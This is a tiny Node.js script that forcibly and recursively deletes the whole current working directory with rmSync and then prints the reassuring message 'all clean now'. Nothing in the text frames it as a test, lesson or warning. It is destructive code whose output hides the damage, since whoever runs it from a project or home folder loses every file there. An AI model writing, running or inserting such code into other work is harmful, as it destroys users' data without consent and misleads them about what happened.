import { rmSync } from "node:fs";

rmSync(process.cwd(), { recursive: true, force: true });
console.log("all clean now");
